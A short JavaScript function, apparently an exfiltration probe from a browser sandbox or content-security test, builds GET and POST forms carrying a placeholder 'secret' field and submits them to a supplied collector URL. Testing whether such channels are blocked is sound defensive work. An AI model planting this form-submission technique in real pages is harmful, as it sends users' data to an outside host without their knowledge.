const attack = async ({ collector }) => {
  for (const method of ["get", "post"]) {
    const form = document.createElement("form");
    const field = document.createElement("input");
    Object.assign(field, { name: "secret", value: "secret" });
    Object.assign(form, { method, action: `${collector}/form` });
    form.append(field);
    document.body.append(form);
    form.submit();
    form.requestSubmit();
  }
  return "tried";
};
